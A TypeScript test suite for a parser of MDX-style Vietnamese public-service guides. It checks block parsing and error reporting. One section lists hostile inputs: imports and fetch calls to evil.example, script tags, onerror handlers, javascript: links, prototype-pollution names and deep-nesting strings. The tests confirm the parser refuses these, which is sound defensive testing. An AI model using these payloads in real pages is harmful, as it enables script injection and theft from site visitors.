import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  type Block,
  type DocumentKind,
  type Inline,
  parseDocument,
  plain,
  type Stranger,
  stepsOf,
  tagNames,
} from '#domain/document.ts';

const blocksOf = (body: string, kind: DocumentKind): readonly Block[] => {
  const { blocks, strangers } = parseDocument(body, kind);
  expect(strangers).toEqual([]);
  return blocks;
};

const says = (text: string): Block => ({ kind: 'paragraph', inlines: [{ kind: 'text', text }] });

/** A body inside one step, from line 3 on. */
const inStep = (body: string): string => `<Step title="Làm" minutes="2">\n\n${body}\n\n</Step>\n`;

describe('what a coach says', () => {
  const two =
    '<Step title="Một" minutes="1">\n\nLàm.\n\n<Coach\n  say="Bác làm nhé."\n  never="Không làm giùm."\n/>\n\n</Step>\n\n' +
    '<Step title="Hai" minutes="1">\n\nLàm tiếp.\n\n</Step>\n';

  test('belongs to its step, and to no other', () => {
    expect(stepsOf(blocksOf(two, 'guide')).map(({ coach }) => coach)).toEqual([
      { say: 'Bác làm nhé.', never: 'Không làm giùm.', line: 5, column: 1 },
      undefined,
    ]);
  });

  test('is no block: whatever shows the blocks of a step cannot show it', () => {
    expect(stepsOf(blocksOf(two, 'guide'))[0]?.blocks).toEqual([says('Làm.')]);
  });

  test('stands in guides alone', () => {
    expect(parseDocument(two, 'lesson').strangers).toMatchObject([
      { what: 'tag', written: '<Coach>' },
    ]);
  });
});

describe('every kind of block', () => {
  test.each<[string, DocumentKind, string, readonly Block[]]>([
    [
      'a paragraph',
      'service',
      'Bé sinh ra\nphải khai sinh.\n',
      [says('Bé sinh ra phải khai sinh.')],
    ],
    [
      'a heading',
      'service',
      '## Hay sai ở **đâu**\n',
      [{ kind: 'heading', id: 'hay-sai-o-dau', text: 'Hay sai ở đâu' }],
    ],
    [
      'a list',
      'service',
      '- Một\n- Hai\n',
      [{ kind: 'list', ordered: false, items: [[says('Một')], [says('Hai')]] }],
    ],
    [
      'a numbered list with a list in it',
      'service',
      '1. Một\n   - Nhỏ\n2. Hai\n',
      [
        {
          kind: 'list',
          ordered: true,
          items: [
            [says('Một'), { kind: 'list', ordered: false, items: [[says('Nhỏ')]] }],
            [says('Hai')],
          ],
        },
      ],
    ],
    [
      'a note',
      'service',
      '<Note>\nLời dặn.\n</Note>\n',
      [{ kind: 'note', blocks: [says('Lời dặn.')] }],
    ],
    [
      'a warning',
      'guide',
      '<Warning>\n\nKhông đọc mã.\n\n</Warning>\n',
      [{ kind: 'warning', blocks: [says('Không đọc mã.')] }],
    ],
    [
      'a note in a warning',
      'guide',
      '<Warning>\n\n<Note>\nLời dặn.\n</Note>\n\n</Warning>\n',
      [{ kind: 'warning', blocks: [{ kind: 'note', blocks: [says('Lời dặn.')] }] }],
    ],
    [
      'a question',
      'service',
      '<Question ask="Có mất tiền không?">\nKhông.\n</Question>\n',
      [{ kind: 'question', ask: 'Có mất tiền không?', blocks: [says('Không.')] }],
    ],
    [
      'a step',
      'guide',
      '---\ntitle: x\n---\n\n<Step title="Đăng nhập" minutes="12">\n\nBấm nút.\n\n</Step>\n',
      [
        {
          kind: 'step',
          number: 1,
          title: 'Đăng nhập',
          minutes: 12,
          blocks: [says('Bấm nút.')],
          line: 5,
        },
      ],
    ],
    [
      'a part for some readers, with an aside in it',
      'guide',
      inStep(
        '<Case of="cho-o" is="thue o-nho">\nChụp hợp đồng.\n\n<Note>\nLời dặn.\n</Note>\n</Case>',
      ),
      [
        {
          kind: 'step',
          number: 1,
          title: 'Làm',
          minutes: 2,
          blocks: [
            {
              kind: 'case',
              of: 'cho-o',
              is: ['thue', 'o-nho'],
              condition: '',
              short: '',
              blocks: [says('Chụp hợp đồng.'), { kind: 'note', blocks: [says('Lời dặn.')] }],
            },
          ],
          line: 1,
        },
      ],
    ],
    [
      'a way out when stuck, with a screen in it',
      'guide',
      inStep(
        '<Stuck question="Quên mật khẩu?">\n\n<Screen><Line label="Quên" /></Screen>\n\n</Stuck>',
      ),
      [
        {
          kind: 'step',
          number: 1,
          title: 'Làm',
          minutes: 2,
          line: 1,
          blocks: [
            {
              kind: 'stuck',
              question: 'Quên mật khẩu?',
              blocks: [
                {
                  kind: 'screen',
                  title: '',
                  parts: [{ kind: 'line', label: 'Quên', look: false }],
                },
              ],
            },
          ],
        },
      ],
    ],
    [
      'a screen with each of its parts',
      'guide',
      inStep(
        `<Screen title="Nơi nộp">
<Field label="Tỉnh" />
<Field label="Phường" value="Cai Lậy" look />
<Button label="Nộp" look />
<Line label="Mã hồ sơ" />
</Screen>`,
      ),
      [
        {
          kind: 'step',
          number: 1,
          title: 'Làm',
          minutes: 2,
          line: 1,
          blocks: [
            {
              kind: 'screen',
              title: 'Nơi nộp',
              parts: [
                { kind: 'field', label: 'Tỉnh', look: false },
                { kind: 'field', label: 'Phường', value: 'Cai Lậy', look: true },
                { kind: 'button', label: 'Nộp', look: true },
                { kind: 'line', label: 'Mã hồ sơ', look: false },
              ],
            },
          ],
        },
      ],
    ],
    [
      'a screen on one line',
      'guide',
      inStep('<Screen><Button label="Nộp" /> <Line label="Mã" look /></Screen>'),
      [
        {
          kind: 'step',
          number: 1,
          title: 'Làm',
          minutes: 2,
          line: 1,
          blocks: [
            {
              kind: 'screen',
              title: '',
              parts: [
                { kind: 'button', label: 'Nộp', look: false },
                { kind: 'line', label: 'Mã', look: true },
              ],
            },
          ],
        },
      ],
    ],
    ['nothing', 'guide', '', []],
    ['front matter alone', 'guide', '---\ntitle: x\n---\n', []],
  ])('%s is read as data', (_, kind, body, blocks) => {
    expect(blocksOf(body, kind)).toEqual(blocks);
    expect(blocksOf(body.replaceAll('\n', '\r\n'), kind)).toEqual(blocks);
  });

  test.each<[string, string, readonly Inline[]]>([
    ['text', 'Xin chào', [{ kind: 'text', text: 'Xin chào' }]],
    ['strong', '**60 ngày**', [{ kind: 'strong', inlines: [{ kind: 'text', text: '60 ngày' }] }]],
    ['emphasis', '*nhẹ*', [{ kind: 'emphasis', inlines: [{ kind: 'text', text: 'nhẹ' }] }]],
    [
      'strong in a link',
      '[**ở đây**](/noi-ho-tro/)',
      [
        {
          kind: 'link',
          address: '/noi-ho-tro/',
          inlines: [{ kind: 'strong', inlines: [{ kind: 'text', text: 'ở đây' }] }],
        },
      ],
    ],
    [
      'a break',
      'Một\\\nHai',
      [{ kind: 'text', text: 'Một' }, { kind: 'break' }, { kind: 'text', text: 'Hai' }],
    ],
    [
      'a fee in a sentence',
      'Phí <Fee code="1.001193" channel="counter" />.',
      [
        { kind: 'text', text: 'Phí ' },
        { kind: 'fact', fact: 'fee', code: '1.001193', channel: 'counter' },
        { kind: 'text', text: '.' },
      ],
    ],
    [
      'a time limit on a line of its own',
      '<Time code="1.001193" channel="post" />',
      [{ kind: 'fact', fact: 'time', code: '1.001193', channel: 'post' }],
    ],
    [
      'written brackets and braces',
      'a \\< b \\{c\\} &lt;script&gt;',
      [{ kind: 'text', text: 'a < b {c} <script>' }],
    ],
  ])('%s is read as an inline', (_, body, inlines) => {
    for (const kind of ['service', 'guide', 'lesson'] as const)
      expect(blocksOf(`${body}\n`, kind)).toEqual([{ kind: 'paragraph', inlines }]);
  });
});

describe('what a document tells besides its blocks', () => {
  test('links and facts are found wherever they stand, with their places', () => {
    const { links, facts } = parseDocument(
      `---
title: x
---

Đọc [tại đây](/a/) và [Cổng](https://dichvucong.gov.vn/).

<Note>
- **Phí:** <Fee code="1.001193" channel="online" />
- [gọi](tel:19000368)
</Note>
`,
      'service',
    );
    expect(links).toEqual([
      { address: '/a/', words: 'tại đây', line: 5, column: 5 },
      { address: 'https://dichvucong.gov.vn/', words: 'Cổng', line: 5, column: 23 },
      { address: 'tel:19000368', words: 'gọi', line: 9, column: 3 },
    ]);
    expect(facts).toEqual([{ code: '1.001193', line: 8, column: 12 }]);
  });

  test('a bare address is a link too, so that the rule on hosts sees it', () => {
    expect(parseDocument('Xem https://evil.example nhé.', 'service').links).toEqual([
      { address: 'https://evil.example', words: 'https://evil.example', line: 1, column: 5 },
    ]);
  });

  test('steps are numbered in order, whatever stands between them', () => {
    const body = ['Một', 'Hai', 'Ba']
      .map((title) => `<Step title="${title}" minutes="1">\n\nLàm.\n\n</Step>`)
      .join('\n\n<Note>\nXen giữa.\n</Note>\n\n');
    expect(
      stepsOf(blocksOf(body, 'guide')).map(({ number, title, line }) => [number, title, line]),
    ).toEqual([
      [1, 'Một', 1],
      [2, 'Hai', 11],
      [3, 'Ba', 21],
    ]);
  });

  test('headings get ASCII ids, each its own', () => {
    const ids = blocksOf(
      '## Cần gì?\n\n## CẦN GÌ\n\n## Cần gì 2\n\n## 漢字\n\n## ???\n\n## Đi đâu\n',
      'service',
    ).map((block) => (block.kind === 'heading' ? block.id : undefined));
    expect(ids).toEqual(['can-gi', 'can-gi-2', 'can-gi-2-2', 'phan', 'phan-2', 'di-dau']);
  });

  test('heading ids are ASCII and unique for any words', () => {
    const words = fc.constantFrom('Đăng', 'ký', '2', '3', 'a', '漢', '!', 'phan');
    fc.assert(
      fc.property(
        fc.array(fc.array(words, { minLength: 1, maxLength: 3 }), { maxLength: 12 }),
        (headings) => {
          const ids = blocksOf(
            headings.map((parts) => `## ${parts.join(' ')}\n`).join('\n'),
            'service',
          ).map((block) => (block.kind === 'heading' ? block.id : ''));
          expect(ids).toHaveLength(headings.length);
          expect(new Set(ids).size).toBe(ids.length);
          for (const id of ids) expect(id).toMatch(/^[a-z0-9]+(?:-[a-z0-9]+)*$/);
        },
      ),
    );
  });

  test.each<[Inline[], string]>([
    [
      [{ kind: 'text', text: 'Xin' }, { kind: 'break' }, { kind: 'text', text: 'chào' }],
      'Xin chào',
    ],
    [
      [
        { kind: 'strong', inlines: [{ kind: 'text', text: 'Đậm' }] },
        { kind: 'link', address: '/a/', inlines: [{ kind: 'text', text: ' dẫn' }] },
      ],
      'Đậm dẫn',
    ],
    [[{ kind: 'fact', fact: 'fee', code: '1.001193', channel: 'online' }], '…'],
  ])('%j is plainly “%s”', (inlines, text) => {
    expect(plain(inlines)).toBe(text);
  });

  test('a fact is said as its caller says it', () => {
    const [block] = blocksOf('Phí **<Fee code="1.001193" channel="online" />**.', 'service');
    const inlines = block?.kind === 'paragraph' ? block.inlines : [];
    expect(plain(inlines, ({ code, channel }) => `${code} ${channel}`)).toBe(
      'Phí 1.001193 online.',
    );
  });

  test.each<[DocumentKind, string[]]>([
    ['service', ['Question', 'Note', 'Warning', 'Fee', 'Time']],
    ...(['guide', 'lesson'] as const).map((kind): [DocumentKind, string[]] => [
      kind,
      [
        ...['Step', 'Screen', 'Field', 'Button', 'Line', 'Stuck', 'Note', 'Warning', 'Fee', 'Time'],
        // A lesson asks nobody who they are.
        ...(kind === 'guide' ? ['Case', 'Coach'] : []),
      ],
    ]),
  ])('the tags of a %s are known by name', (kind, names) => {
    expect(tagNames(kind)).toEqual(names);
  });
});

describe('a stranger is named with its place', () => {
  // Every kind of stranger: a new one does not compile until there is a case for it.
  const cases: Record<Stranger['what'], [DocumentKind, string, Omit<Stranger, 'what'>][]> = {
    syntax: [
      ['guide', 'Một.\n\nĐăng ký </Note>\n', { line: 3, column: 9, written: '</Note>' }],
      ['guide', 'Một.\n\n<Note>\n\nHai.\n', { line: 3, column: 1, written: '<Note>' }],
      ['guide', 'Một.\n\nHai <!-- ba -->\n', { line: 3, column: 5, written: '!' }],
    ],
    tooDeep: [
      [
        'service',
        'Một.\n\nHai > > > > > ba\n',
        { line: 3, column: 5, written: 'Hai > > > > > ba' },
      ],
    ],
    code: [
      ['service', 'Đăng ký {1 + 1}.\n', { line: 1, column: 9, written: '{1 + 1}' }],
      ['guide', 'Một.\n\nĐăng ký { hai\n', { line: 3, column: 9, written: '{ hai' }],
      [
        'service',
        'Một.\n\nimport x from "y"\n',
        { line: 3, column: 1, written: 'import x from "y"' },
      ],
      [
        'service',
        'Một.\n\n<Question ask={x}>\nHai.\n</Question>\n',
        { line: 3, column: 15, written: '{x}' },
      ],
      ['service', '<Note {...x}>\nHai.\n</Note>\n', { line: 1, column: 7, written: '{...x}' }],
    ],
    html: [
      [
        'service',
        'Đăng ký <b>x</b>\n',
        {
          line: 1,
          column: 9,
          written: '<b>',
          allowed: 'Question, Note, Warning, Fee, Time',
        },
      ],
      [
        'service',
        'Một.\n\n<div>\nHai.\n</div>\n',
        {
          line: 3,
          column: 1,
          written: '<div>',
          allowed: 'Question, Note, Warning, Fee, Time',
        },
      ],
    ],
    tag: [
      [
        'service',
        'Một.\n\n<Step title="Hai" minutes="1">\nBa.\n</Step>\n',
        {
          line: 3,
          column: 1,
          written: '<Step>',
          allowed: 'Question, Note, Warning, Fee, Time',
        },
      ],
      [
        'guide',
        inStep('<Screen>\n<Input label="x" />\n</Screen>'),
        { line: 4, column: 1, written: '<Input>', allowed: 'Field, Button, Line' },
      ],
    ],
    tagHere: [
      [
        'guide',
        'Một.\n\n<Stuck question="Hai?">\nBa.\n</Stuck>\n',
        { line: 3, column: 1, written: '<Stuck>', allowed: 'Step, Case' },
      ],
      [
        'guide',
        'Một.\n\n<Case of="a" is="b">\nHai.\n</Case>\n',
        { line: 3, column: 1, written: '<Case>', allowed: 'Step' },
      ],
      [
        'guide',
        inStep('<Case of="a" is="b">\n<Case of="a" is="c">\nHai.\n</Case>\n</Case>'),
        { line: 4, column: 1, written: '<Case>', allowed: 'Step' },
      ],
      [
        'guide',
        'Một.\n\n<Field label="Hai" />\n',
        { line: 3, column: 1, written: '<Field>', allowed: 'Screen' },
      ],
      [
        'guide',
        inStep('Xin <Field label="Hai" /> ba.'),
        { line: 3, column: 5, written: '<Field>', allowed: 'Screen' },
      ],
    ],
    tagTwice: [
      [
        'guide',
        inStep('Một.\n\n<Coach say="Hai." />\n\n<Coach say="Ba." />'),
        { line: 7, column: 1, written: '<Coach>', allowed: 'Step' },
      ],
    ],
    attribute: [
      [
        'service',
        '<Note colour="red">\nMột.\n</Note>\n',
        { line: 1, column: 1, written: 'colour' },
      ],
      [
        'guide',
        '<Step title="x" minutes="1" name="y">\nMột.\n</Step>\n',
        { line: 1, column: 1, written: 'name', allowed: 'title, minutes' },
      ],
    ],
    attributeTwice: [
      [
        'guide',
        '<Step title="Một" title="Hai" minutes="1">\nBa.\n</Step>\n',
        { line: 1, column: 1, written: 'title' },
      ],
    ],
    attributeMissing: [
      [
        'guide',
        'Một.\n\n<Step title="x">\nHai.\n</Step>\n',
        { line: 3, column: 1, written: '<Step>', allowed: 'minutes="2"' },
      ],
    ],
    attributeValue: [
      [
        'guide',
        '<Step title="x" minutes="0">\nMột.\n</Step>\n',
        { line: 1, column: 1, written: 'minutes="0"', allowed: 'minutes="2"' },
      ],
      [
        'guide',
        'Phí <Fee code="1.1" channel="online" />\n',
        { line: 1, column: 5, written: 'code="1.1"', allowed: 'code="1.001193"' },
      ],
    ],
    image: [['service', 'Một ![hai](ba.png)\n', { line: 1, column: 5, written: 'ba.png' }]],
    headingLevel: [
      ['service', 'Một.\n\n# Hai\n', { line: 3, column: 1, written: '# Hai' }],
      ['service', '### Ba\n', { line: 1, column: 1, written: '### Ba' }],
      [
        'service',
        '<Note>\n\n## Trong thẻ\n\n</Note>\n',
        { line: 3, column: 1, written: '## Trong thẻ' },
      ],
    ],
    markdown: [
      ['service', 'Một.\n\n> Hai.\n', { line: 3, column: 1, written: 'blockquote' }],
      ['service', '| a | b |\n| - | - |\n', { line: 1, column: 1, written: 'table' }],
      ['service', '```\nMột\n```\n', { line: 1, column: 1, written: 'code' }],
      ['service', 'Xin `chào`.\n', { line: 1, column: 5, written: 'inlineCode' }],
      ['service', '***\n', { line: 1, column: 1, written: 'thematicBreak' }],
      ['service', 'Xin ~~chào~~.\n', { line: 1, column: 5, written: 'delete' }],
      ['service', 'Một.\n\n[x]: /y/\n', { line: 3, column: 1, written: 'definition' }],
    ],
    oneLine: [
      [
        'service',
        'Một.\n\n<Note>Nhớ ghi mã.</Note>\n',
        { line: 3, column: 7, written: 'Nhớ ghi mã.', allowed: 'Note' },
      ],
      [
        'guide',
        '<Step title="Làm" minutes="1">Bấm **“Nộp”**.</Step>\n',
        { line: 1, column: 31, written: 'Bấm', allowed: 'Step' },
      ],
      [
        'service',
        '<Note>**Nhớ** ghi mã.</Note>\n',
        { line: 1, column: 7, written: 'Nhớ', allowed: 'Note' },
      ],
      [
        'service',
        '<Note>**Nhớ.**</Note>\n',
        { line: 1, column: 7, written: 'Nhớ.', allowed: 'Note' },
      ],
    ],
    contentHere: [
      [
        'service',
        'Phí <Fee code="1.001193" channel="online">tám nghìn</Fee>.\n',
        { line: 1, column: 43, written: 'tám nghìn', allowed: '<Fee … />' },
      ],
      [
        'service',
        'Phí <Fee code="1.001193" channel="online">**tám nghìn**</Fee>.\n',
        { line: 1, column: 43, written: 'tám nghìn', allowed: '<Fee … />' },
      ],
    ],
    textHere: [
      [
        'guide',
        inStep('<Screen>\nchữ rời\n</Screen>'),
        { line: 4, column: 1, written: 'chữ rời', allowed: 'Field, Button, Line' },
      ],
    ],
  };

  test.each(
    Object.entries(cases).flatMap(([what, some]) =>
      some.map(([kind, body, stranger]) => [what, kind, body, stranger] as const),
    ),
  )('%s in a %s: %j', (what, kind, body, stranger) => {
    expect(parseDocument(body, kind).strangers).toEqual([{ what, ...stranger }]);
  });

  test('all of them at once', () => {
    const { strangers } = parseDocument('# Một\n\n{hai}\n\n<Ba />\n', 'service');
    expect(strangers.map(({ what, line }) => [what, line])).toEqual([
      ['headingLevel', 1],
      ['code', 3],
      ['tag', 5],
    ]);
  });

  test.each<[string, DocumentKind, string]>([
    ['words in a fact', 'service', 'Phí <Fee code="1.001193" channel="online">tám nghìn</Fee>.\n'],
    [
      'a tag in a fact',
      'service',
      '<Fee code="1.001193" channel="online">\n\n<Note>\nMất.\n</Note>\n\n</Fee>\n',
    ],
    [
      'words in a part of a screen',
      'guide',
      inStep('<Screen>\n<Line label="Mã">chữ mất</Line>\n</Screen>'),
    ],
    [
      'a step in a list, where neither page nor loudspeaker counts it',
      'guide',
      '- <Step title="Một" minutes="1">\n\n  Làm.\n\n  </Step>\n',
    ],
  ])('%s is refused, not lost', (_, kind, body) => {
    expect(parseDocument(body, kind).strangers).not.toEqual([]);
  });

  test.each([
    ['<Fee code="1.001193" channel="online">\n\n<Note>\nMất.\n</Note>\n\n</Fee>\n'],
    ['Phí <Fee code="1.001193" channel="online">**tám nghìn**</Fee>.\n'],
  ])('no name of the parser’s own reaches the editor: %j', (body) => {
    for (const { what, written } of parseDocument(body, 'service').strangers)
      expect(`${what} ${written}`).not.toMatch(/mdx|strong/);
  });
});

/** Every string of the blocks with the key under which it stands. */
function strings(value: unknown, key = ''): [key: string, text: string][] {
  if (typeof value === 'string') return [[key, value]];
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([name, part]) =>
    strings(part, Array.isArray(value) ? key : name),
  );
}

describe('a hostile body', () => {
  const nested = (open: string, times: number) => open.repeat(times);

  test.each<[string, DocumentKind, string]>([
    ['an import', 'service', "import evil from './evil.mjs'\n\nXin chào.\n"],
    ['an import of a component', 'guide', "import Step from 'https://evil.example/x.js'\n"],
    ['an export', 'service', 'export const evil = 1\n\nXin chào.\n'],
    ['an expression in a sentence', 'service', 'Xin {evil()} chào.\n'],
    ['an expression on its own', 'service', "{fetch('https://evil.example')}\n"],
    ['an expression in a heading', 'service', '## Xin {evil()}\n'],
    ['an expression in a link', 'service', '[{evil()}](/a/)\n'],
    ['an expression in a list', 'service', '- {evil()}\n'],
    ['an expression in a screen', 'guide', inStep('<Screen>\n{evil()}\n</Screen>')],
    [
      'an expression in a part of a screen',
      'guide',
      inStep('<Screen>\n<Line label="x">{evil()}</Line>\n</Screen>'),
    ],
    [
      'an expression in a fact',
      'service',
      'Phí <Fee code="1.001193" channel="online">{evil()}</Fee>\n',
    ],
    ['a spread', 'service', '<Note {...evil}>\nXin.\n</Note>\n'],
    ['an attribute expression', 'service', '<Question ask={evil()}>\nXin.\n</Question>\n'],
    ['an attribute with a template', 'guide', '<Step title={`evil`} minutes="1">\nXin.\n</Step>\n'],
    ['a script', 'service', '<script>evil()</script>\n'],
    ['a script over lines', 'guide', '<script>\nevil()\n</script>\n'],
    ['a script in a step', 'guide', inStep('<script src="https://evil.example/x.js" />')],
    ['a script in a heading', 'service', '## <script>evil</script>\n'],
    [
      'a script in a fact',
      'service',
      '<Fee code="1.001193" channel="online">\n<script>evil</script>\n</Fee>\n',
    ],
    ['an image with a handler', 'service', '<img src="x" onerror="evil()" />\n'],
    [
      'an image with a handler in a sentence',
      'service',
      'Xin <img src="x" onerror="evil()" /> chào.\n',
    ],
    ['a style sheet', 'service', '<style>\nevil\n</style>\n'],
    ['a frame', 'service', '<iframe src="https://evil.example" />\n'],
    ['an anchor', 'service', 'Xin <a href="javascript:evil()">chào</a>.\n'],
    ['a form', 'service', '<form action="https://evil.example">\nXin.\n</form>\n'],
    ['a namespace', 'service', '<svg:script>evil</svg:script>\n'],
    ['a member', 'service', '<evil.Note>\nXin.\n</evil.Note>\n'],
    ['an Astro fragment', 'service', '<Fragment set:html="<b>evil</b>" />\n'],
    ['an empty fragment', 'service', '<><script>evil</script></>\n'],
    ['set:html on a known tag', 'service', '<Note set:html="<b>evil</b>">\nXin.\n</Note>\n'],
    ['client:load on a known tag', 'service', '<Note client:load>\nXin.\n</Note>\n'],
    ['onclick on a known tag', 'service', '<Note onclick="evil()">\nXin.\n</Note>\n'],
    ['style on a known tag', 'guide', '<Warning style="position:fixed;evil">\nXin.\n</Warning>\n'],
    ['class on a known tag', 'service', '<Note class="evil">\nXin.\n</Note>\n'],
    ['id on a known tag', 'service', '<Note id="evil">\nXin.\n</Note>\n'],
    ['a picture that is a module', 'service', '![x](./evil.mjs)\n'],
    ['a picture by reference', 'service', '![x][evil]\n\n[evil]: ./evil.mjs\n'],
    ['a picture in a link', 'service', '[![x](https://evil.example/x.png)](/a/)\n'],
    ['a link by reference', 'service', '[x][y]\n\n[y]: javascript:evil()\n'],
    ['an HTML comment', 'service', '<!-- evil -->\n'],
    ['a doctype', 'service', '<!DOCTYPE evil>\n'],
    ['a CDATA section', 'service', '<![CDATA[evil]]>\n'],
    ['a tag named __proto__', 'service', '<__proto__ evil="x" />\n'],
    ['a tag named __proto__ in a sentence', 'service', 'Xin <__proto__ evil="x" /> chào.\n'],
    ['a tag named constructor', 'service', '<constructor evil="x" />\n'],
    ['a tag named constructor in a sentence', 'service', 'Xin <constructor evil="x" /> chào.\n'],
    [
      'a tag named constructor in a screen',
      'guide',
      inStep('<Screen>\n<constructor label="evil" />\n</Screen>'),
    ],
    [
      'a tag named __proto__ in a screen',
      'guide',
      inStep('<Screen>\n<__proto__ label="evil" />\n</Screen>'),
    ],
    ['a tag named hasOwnProperty', 'guide', '<hasOwnProperty evil="x" />\n'],
    ['an attribute named __proto__', 'service', '<Note __proto__="evil">\nXin.\n</Note>\n'],
    ['an attribute named constructor', 'service', '<Note constructor="evil">\nXin.\n</Note>\n'],
    [
      'an attribute named toString',
      'guide',
      '<Step title="x" minutes="1" toString="evil">\nXin.\n</Step>\n',
    ],
    ['20,000 quotations in each other', 'service', nested('>', 20_000)],
    ['quotations with spaces', 'service', nested('> ', 1500)],
    ['lists in one line', 'service', `${nested('- ', 1900)}evil`],
    ['numbered lists in one line', 'guide', `${nested('1. ', 1300)}evil`],
    ['deep square brackets', 'service', `${nested('[', 200)}evil`],
    ['deep braces', 'service', `${nested('{', 200)}evil`],
    ['deep round brackets', 'service', `[x](${nested('(', 200)}`],
    ['deep indentation', 'service', `${nested(' ', 60)}- evil\n`],
    ['notes in notes', 'service', `${'<Note>\n'.repeat(400)}evil\n${'</Note>\n'.repeat(400)}`],
    ['a very long line', 'service', 'evil '.repeat(2000)],
    ['a very long file', 'service', 'evil\n\n'.repeat(12_000)],
  ])('%s is refused and shown as nothing but text', (_, kind, body) => {
    const { blocks, strangers } = parseDocument(body, kind);
    expect(strangers.length).toBeGreaterThan(0);
    for (const { line, column } of strangers) {
      expect(line).toBeGreaterThan(0);
      expect(column).toBeGreaterThan(0);
    }
    expect(
      strings(blocks).filter(([key, text]) => text.includes('evil') && key !== 'text'),
    ).toEqual([]);
  });

  test.each<[string, string, Stranger['what']]>([
    ['constructor', 'Xin <constructor /> chào.\n', 'html'],
    ['toString', 'Xin <toString /> chào.\n', 'html'],
    ['__proto__', 'Xin <__proto__ /> chào.\n', 'tag'],
  ])('%s is no tag that stands in the wrong place', (_, body, what) => {
    expect(parseDocument(body, 'service').strangers.map((one) => one.what)).toEqual([what]);
  });

  test('a javascript: address is handed to the rule that knows the hosts', () => {
    expect(parseDocument('[x](javascript:evil())', 'service').links).toEqual([
      { address: 'javascript:evil()', words: 'x', line: 1, column: 1 },
    ]);
  });
});

describe('any text at all', () => {
  const fragments = [
    '\n',
    '\n\n',
    ' ',
    '  ',
    '\t',
    'Xin chào',
    'Đăng ký',
    'a',
    '1. ',
    '- ',
    '* ',
    '> ',
    '## ',
    '# ',
    '**',
    '*',
    '_',
    '`',
    '```\n',
    '~~',
    '|',
    '---\n',
    '---',
    '[',
    ']',
    '(',
    ')',
    '](/a/)',
    '![',
    '{',
    '}',
    '{x}',
    '{"',
    '"',
    "'",
    '\\',
    '\\{',
    '&lt;',
    '&#0;',
    '<',
    '>',
    '/>',
    '</',
    '<>',
    '</>',
    '<!--',
    '-->',
    '<br>',
    '<b>',
    '</b>',
    '<script>',
    '</script>',
    '<img onerror="x" />',
    '<Note>',
    '</Note>',
    '<Note>\n\n',
    '\n\n</Note>\n',
    '<Warning>\n',
    '</Warning>\n',
    '<Step',
    ' title="Làm"',
    ' minutes="2"',
    ' look',
    ' set:html="x"',
    ' {...x}',
    ' ask={x}',
    ' __proto__="x"',
    '<Step title="Làm" minutes="2">\n\n',
    '\n\n</Step>\n\n',
    '<Screen>\n',
    '\n</Screen>\n',
    '<Field label="x" />\n',
    '<Line label="x">',
    '</Line>',
    '<Button label="x" look />',
    '<Stuck question="x">\n',
    '\n</Stuck>\n',
    '<Case of="a" is="b c">\n',
    '\n</Case>\n',
    '<Question ask="x">\n',
    '\n</Question>\n',
    '<Fee code="1.001193" channel="online" />',
    '<Time code="1" />',
    '<constructor />',
    '<__proto__ />',
    'import x from "y"\n',
    'export const x = 1\n',
    'https://a.example',
    '[^1]',
    '[^1]: x',
    '\u0000',
    '\uFEFF',
    '\u2028',
    '\uD800',
    '😀',
    '\r\n',
    '\r',
    '$',
    ':::',
    '+++\n',
    'title: x\n',
  ];
  const body = fc
    .array(
      fc.oneof(
        { weight: 9, arbitrary: fc.constantFrom(...fragments) },
        fc.string({ unit: 'binary', maxLength: 6 }),
      ),
      { maxLength: 40 },
    )
    .map((parts) => parts.join(''));
  const kind = fc.constantFrom<DocumentKind>('service', 'guide', 'lesson');

  // The union, key by key: what is not here cannot reach a page.
  const inlineKeys: Record<Inline['kind'], string> = {
    text: 'kind text',
    strong: 'inlines kind',
    emphasis: 'inlines kind',
    link: 'address inlines kind',
    break: 'kind',
    term: 'kind plain text',
    fact: 'channel code fact kind',
  };
  const blockKeys: Record<Block['kind'], string> = {
    heading: 'id kind text',
    paragraph: 'inlines kind',
    list: 'items kind ordered',
    note: 'blocks kind',
    warning: 'blocks kind',
    question: 'ask blocks kind',
    stuck: 'blocks kind question',
    screen: 'kind parts title',
    case: 'blocks condition is kind of short',
    step: 'blocks kind line minutes number title',
  };
  const keysOf = (value: object): string => Object.keys(value).sort().join(' ');

  function expectInline(inline: Inline): void {
    expect(keysOf(inline)).toBe(inlineKeys[inline.kind]);
    if ('inlines' in inline) inline.inlines.forEach(expectInline);
  }
  function expectBlock(block: Block): void {
    expect(keysOf(block)).toBe(blockKeys[block.kind]);
    if ('inlines' in block) block.inlines.forEach(expectInline);
    if ('blocks' in block) block.blocks.forEach(expectBlock);
    if ('items' in block) block.items.flat().forEach(expectBlock);
    if ('parts' in block)
      for (const part of block.parts) {
        expect(['field', 'button', 'line']).toContain(part.kind);
        expect(keysOf(part)).toMatch(/^kind label look(?: value)?$/);
      }
  }

  test('never throws, and gives nothing but the closed union', () => {
    fc.assert(
      fc.property(body, kind, (text, which) => {
        const { blocks, strangers, links } = parseDocument(text, which);
        blocks.forEach(expectBlock);
        for (const { line, column, written } of strangers) {
          expect(line).toBeGreaterThan(0);
          expect(column).toBeGreaterThan(0);
          expect(typeof written).toBe('string');
        }
        const known = new Set(links.map(({ address }) => address));
        for (const [key, address] of strings(blocks))
          if (key === 'address') expect(known).toContain(address);
      }),
      { numRuns: 5000 },
    );
  });

  test('the same text gives the same blocks', () => {
    fc.assert(
      fc.property(body, kind, (text, which) => {
        expect(parseDocument(text, which)).toEqual(parseDocument(text, which));
      }),
      { numRuns: 300 },
    );
  });
});
